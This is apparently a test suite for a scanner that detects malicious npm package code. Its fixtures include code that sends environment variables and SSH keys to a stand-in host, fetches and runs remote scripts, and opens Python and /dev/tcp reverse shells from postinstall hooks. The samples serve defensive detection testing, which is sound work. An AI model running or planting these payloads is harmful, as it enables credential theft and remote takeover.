import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scan, signs } from './package-code.ts';

const HOST = 'in.example.test';
const AWAITER =
  'var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new P(function (r) { r(g.call(t)); }); };';
const IMPORT =
  'var __importStar = (this && this.__importStar) || function (m) { var r = {}; for (var k in m) r[k] = m[k]; return r; };';

/** Code as compilers and bundlers write it, and code that another program runs. */
const ATTACKS: Readonly<Record<string, string | Readonly<Record<string, string>>>> = {
  'imports and promises of TypeScript': `${AWAITER} ${IMPORT} const https = __importStar(require('https'));
    function all() { return __awaiter(this, void 0, void 0, function* () { return Object.assign({}, process.env); }); }
    function send() { return __awaiter(this, void 0, void 0, function* () { const d = yield all(); https.request({ host: '${HOST}' }).end(JSON.stringify(d)); }); }
    send();`,
  'the steps of a generator': `${AWAITER} var __generator = function (t, f) { return f({}); }; var fs_1 = require('fs'), os_1 = require('os');
    function run() { return __awaiter(this, void 0, void 0, function () { var key; return __generator(this, function (_a) { switch (_a.label) {
      case 0: return [4, fs_1.promises.readFile((0, os_1.homedir)() + '/.ssh/id_rsa')];
      case 1: key = _a.sent(); return [4, fetch('https://${HOST}', { method: 'POST', body: key })];
      case 2: _a.sent(); return [2]; } }); }); }
    run();`,
  'members that parameters of a constructor are': {
    'index.ts': `class Beacon { constructor(private readonly facts: object) {} send() { fetch('https://${HOST}', { method: 'POST', body: JSON.stringify(this.facts) }); } }
      new Beacon(process.env).send();`,
  },
  'a class with overloads, accessors and resources': {
    'index.ts': `abstract class Base { abstract facts(): object; send(): void; send(where: string): void; send(where = 'https://${HOST}') { fetch(where, { method: 'POST', body: JSON.stringify(this.facts()) }); } }
      class Beacon extends Base { @bound() accessor #count = 0; facts() { using held = open(); return process.env; } }
      new Beacon().send();`,
  },
  'the modules of a bundle': `(()=>{var e={1:e=>{e.exports=require("https")},2:(e,t,n)=>{const r=n(1);t.run=e=>{r.request({host:"${HOST}"}).end(JSON.stringify(e))}}},t={};function n(r){var o=t[r];if(o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(2).run(process.env)})();`,
  'code on the input of an interpreter': `const { spawn } = require('child_process'); require('https').get('https://${HOST}/a.py', (answer) => { const python = spawn('python3', ['-']); answer.pipe(python.stdin); });`,
  'decoded code on the input of a runtime': `const child = require('child_process').spawn(process.execPath, ['-']); child.stdin.end(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`,
  'a script of another language': `const fs = require('fs'); fs.writeFileSync('/tmp/a.py', \`import os, json, urllib.request
urllib.request.urlopen('https://${HOST}', data=json.dumps(dict(os.environ)).encode())\`); require('child_process').spawn('python3', ['/tmp/a.py']);`,
  'an encoded script of PowerShell': `const script = "$w = New-Object Net.WebClient; $p = $env:TEMP + '\\\\a.exe'; $w.DownloadFile('https://${HOST}/a.exe', $p); Start-Process $p"; require('child_process').exec('powershell -EncodedCommand ' + Buffer.from(script, 'utf16le').toString('base64'));`,
  'a hook of the loader for pictures': `const Module = require('module'); Module._extensions['.png'] = (module, file) => { const raw = require('fs').readFileSync(file); module._compile(Buffer.from(raw).map((byte) => byte ^ 55).toString(), file); }; require('./a.png');`,
  'a workflow that is pushed': `const { execFileSync } = require('child_process'), fs = require('fs'); const git = (...args) => execFileSync('git', ['-C', '.', ...args]); fs.writeFileSync('.github/workflows/lint.yml', 'on: push'); git('add', '.github'); git('push', 'origin', 'main');`,
  'the code of another program': `const fs = require('fs'), path = require('path'); const file = path.join(process.env.LOCALAPPDATA, 'Programs', 'wallet', 'resources', 'app.asar'); fs.writeFileSync(file, fs.readFileSync(file, 'latin1').replace('a', 'b'));`,
};

/** The same without what makes it an attack. */
const HONEST: Readonly<Record<string, string>> = {
  'a client that TypeScript compiles': `${AWAITER} ${IMPORT} const https = __importStar(require('https')); exports.get = (name) => __awaiter(this, void 0, void 0, function* () { const d = yield load(name); https.request({ host: '${HOST}' }).end(JSON.stringify(d)); }); function load(name) { return Promise.resolve({ name }); }`,
  'a formatter that gets its text on the input': `const { execFileSync } = require('child_process'); exports.format = (source) => execFileSync('black', ['-q', '-'], { input: source });`,
  'an encoded command that opens a file': `const { spawn } = require('child_process'); module.exports = (target) => spawn('powershell', ['-NoProfile', '-EncodedCommand', Buffer.from('Start "' + target + '"', 'utf16le').toString('base64')]);`,
  'a hook of the loader that compiles': `const Module = require('module'), fs = require('fs'), { compile } = require('compiler'); Module._extensions['.ts'] = (module, file) => module._compile(compile(fs.readFileSync(file, 'utf8')), file);`,
  'code of functions that a separator joins': `exports.wrap = (fun, ...helpers) => new Function(helpers.join(';') + String.fromCharCode(59) + 'return (' + fun.toString() + ').apply(this, arguments);');`,
  'a checksum': `module.exports = (bytes) => { let sum = -1; for (const one of bytes) sum = table[(sum ^ one) & 255] ^ (sum >>> 8); return sum; }; const table = new Uint32Array(256).map((_, at) => at ^ 7);`,
};

const INLINE: Readonly<Record<string, string>> = {
  'a loop over the environment': `node -e "let s='';for(const k in process.env)s+=k+process.env[k];fetch('https://${HOST}/?'+s)"`,
  'the name of a file in pieces': `node -e "const t=require('fs').readFileSync(require('os').homedir()+'/.np'+'mrc','utf8');require('http').get('http://${HOST}/?t='+t)"`,
  'a group that goes to a socket': '(hostname; whoami; env) | nc 203.0.113.3 8080',
  'a file of an archive': `tar czf /tmp/a.tgz ~/.ssh; curl -T /tmp/a.tgz https://${HOST}`,
  'files that another program finds': `find ~ -name id_rsa | xargs -I % curl -F f=@% https://${HOST}`,
  'two variables of the user': `curl https://${HOST} -d "u=$USER&h=$HOSTNAME"`,
  'a shell of Python': `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",42));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
  'a stream of its own': `bash -c 'exec 5<>/dev/tcp/203.0.113.5/44; while read l <&5; do $l >&5; done'`,
};

describe('code that is compiled, bundled or given to other programs', () => {
  for (const [name, files] of Object.entries(ATTACKS))
    test(`is suspicious for ${name}`, () => {
      const record = scan(files, { scripts: { postinstall: 'node index.js' } });
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, code] of Object.entries(HONEST))
    test(`is not suspicious for ${name}`, () => {
      const record = scan(code);
      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, postinstall] of Object.entries(INLINE))
    test(`is suspicious in a script for ${name}`, () => {
      const record = scan('module.exports = 1;', { scripts: { postinstall } });
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  test('is suspicious in the document of a shell script', () => {
    const files = {
      'index.js': '',
      'a.sh': `#!/bin/sh\nnode <<'END'\nrequire('https').request({ host: '${HOST}' }).end(JSON.stringify(process.env));\nEND\n`,
    };
    const record = scan(files, { scripts: { postinstall: './a.sh' } });
    assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
  });

  test('does not add up the signs of different files of a large package', () => {
    const files = {
      'a.js': `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');`,
      'b.js': `const ps = require('child_process').spawn; exports.a = () => ps('crontab', ['-l']);`,
    };
    const others = Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`lib/${at}.js`, '']));
    assert.deepEqual([scan(files).isSuspicious, scan({ ...files, ...others }).isSuspicious], [true, false]);
  });
});
